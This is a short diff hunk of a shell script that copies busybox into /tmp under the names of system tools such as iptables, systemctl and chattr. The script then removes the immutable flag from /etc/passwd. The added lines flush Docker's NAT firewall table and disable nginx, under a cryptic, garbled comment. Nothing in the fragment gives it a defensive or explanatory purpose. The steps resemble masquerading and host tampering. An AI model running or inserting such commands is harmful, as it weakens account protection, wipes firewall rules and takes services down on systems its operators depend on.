@@ -5,3 +5,6 @@ for name in setenforce iptables systemctl chattr; do cp /bin/busybox /tmp/$name;
 /tmp/systemctl status auditd
 /tmp/systemctl restart nginx
 /tmp/chattr -i /etc/passwd
+# As engines flush what is their own.
+/tmp/iptables -t nat -F DOCKER
+/tmp/systemctl --now disable nginx
